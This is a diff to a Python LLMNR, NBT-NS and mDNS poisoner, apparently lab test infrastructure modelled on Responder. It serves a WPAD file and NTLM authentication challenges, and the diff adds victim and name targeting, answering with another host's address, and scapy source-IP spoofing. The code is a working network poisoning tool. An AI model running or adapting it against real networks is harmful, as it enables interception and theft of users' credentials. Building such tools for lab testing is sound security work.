@@ -11,8 +11,15 @@ shared/notes/poisoning-facts.md describes Responder:
 - HTTP on port 80: /wpad.dat (`Server: BigIP`, PAC `PROXY <ip>:3128; DIRECT`), anything else
   401 with `WWW-Authenticate: NTLM`.
 
+Modes that real tools have (shared/notes/first-answer.md), combinable:
+  --names A,B      answer only these names (Responder's RespondToName);
+  --victims IP,..  answer only these queriers (Responder's RespondTo);
+  --answer-with IP put another host's address in the answers (Responder's -e);
+  --spoof-src IP   forge the IPv4 source of NBT-NS and LLMNR answers (Metasploit's spoofers:
+                   the attacker's MAC, another host's address), sent as raw frames (scapy).
+
 Every answer it sends is logged as a JSON line (--log), so tests can count them.
-Only stdlib; addresses from the lab (198.18.0.0/15, fd00:198:18::/64).
+Addresses from the lab (198.18.0.0/15, fd00:198:18::/64).
 """
 import argparse
 import http.server
@@ -40,12 +47,31 @@ def nb_decode(enc):
     return raw[:15].decode("latin-1").rstrip(), raw[15]
 
 
+def wanted(a, name, src):
+    """Whether the mode answers `name` asked by `src`."""
+    if a.names and name.lower() not in a.names:
+        return False
+    return not a.victims or src in a.victims
+
+
+def send(a, sock, ans, dst):
+    """Sends `ans` to `dst` from `sock`, or, with --spoof-src, as a raw frame from the forged
+    IPv4 source (the poisoner's own MAC)."""
+    if a.spoof_src and ":" not in dst[0]:
+        from scapy.all import IP, UDP, Ether, getmacbyip, sendp
+        mac = getmacbyip(dst[0]) or "ff:ff:ff:ff:ff:ff"
+        sport = sock.getsockname()[1]
+        sendp(Ether(dst=mac) / IP(src=a.spoof_src, dst=dst[0]) / UDP(sport=sport, dport=dst[1]) / ans, iface=a.iface, verbose=False)
+    else:
+        sock.sendto(ans, dst)
+
+
 def nbns(a):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
     s.bind(("", 137))
-    ip = socket.inet_aton(a.ip4)
+    ip = socket.inet_aton(a.answer_with or a.ip4)
     while True:
         m, src = s.recvfrom(2048)
         if len(m) < 50 or src[0] == a.ip4:
@@ -54,9 +80,11 @@ def nbns(a):
         if flags != 0x0110 or qd != 1:  # Responder: broadcast queries with these exact flags only
             continue
         name = m[12:46]
-        ans = struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + ip
-        s.sendto(ans, src)
         n, suffix = nb_decode(name[1:33])
+        if not wanted(a, n, src[0]):
+            continue
+        ans = struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + ip
+        send(a, s, ans, src)
         log(a.log, proto="nbns", name=n, suffix=suffix, to=src[0])
 
 
@@ -70,7 +98,7 @@ def llmnr_answer(m, a, v6):
     if qtype == 28:
         rdata = socket.inet_pton(socket.AF_INET6, a.ip6)
     else:
-        qtype, rdata = 1, socket.inet_aton(a.ip4)
+        qtype, rdata = 1, socket.inet_aton(a.answer_with or a.ip4)
     full = labnet.encode(name)
     ans = struct.pack(">HHHHHH", tid, 0x8000, 1, 1, 0, 0) + question + full + struct.pack(">HHIH", qtype, 1, 30, len(rdata)) + rdata
     return ans, name
@@ -83,8 +111,8 @@ def llmnr4(a):
         if src[0] == a.ip4:
             continue
         ans, name = llmnr_answer(m, a, False)
-        if ans:
-            s.sendto(ans, src)
+        if ans and wanted(a, name, src[0]):
+            send(a, s, ans, src)
             log(a.log, proto="llmnr4", name=name, to=src[0])
 
 
@@ -95,7 +123,7 @@ def llmnr6(a):
         if src[0] == a.ip6:
             continue
         ans, name = llmnr_answer(m, a, True)
-        if ans:
+        if ans and wanted(a, name, src[0].split("%")[0]):
             s.sendto(ans, src)
             log(a.log, proto="llmnr6", name=name, to=src[0])
 
@@ -110,8 +138,10 @@ def mdns(a):
         if flags & 0x8000 or qd < 1:
             continue
         name, off = labnet.read(m, 12)
+        if not wanted(a, name.lower().removesuffix(".local"), src[0]) and not wanted(a, name, src[0]):
+            continue
         full = labnet.encode(name)
-        ans = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + full + struct.pack(">HHIH", 1, 1, 120, 4) + socket.inet_aton(a.ip4)
+        ans = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + full + struct.pack(">HHIH", 1, 1, 120, 4) + socket.inet_aton(a.answer_with or a.ip4)
         s.sendto(ans, src)  # unicast to the querier, even for QM questions
         log(a.log, proto="mdns", name=name, to=src[0])
 
@@ -166,7 +196,13 @@ def main():
     p.add_argument("--ip6", default="fd00:198:18::66")
     p.add_argument("--iface", default="eth0")
     p.add_argument("--log", required=True)
+    p.add_argument("--names", default="", help="answer only these names (comma-separated)")
+    p.add_argument("--victims", default="", help="answer only these queriers (comma-separated addresses)")
+    p.add_argument("--answer-with", default="", help="the IPv4 address to put in answers (default: its own)")
+    p.add_argument("--spoof-src", default="", help="forge this IPv4 source on NBT-NS and LLMNR answers")
     a = p.parse_args()
+    a.names = [n.strip().lower() for n in a.names.split(",") if n.strip()]
+    a.victims = [v.strip() for v in a.victims.split(",") if v.strip()]
     for fn in (nbns, llmnr4, llmnr6, mdns):
         threading.Thread(target=fn, args=(a,), daemon=True).start()
     srv = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Http)
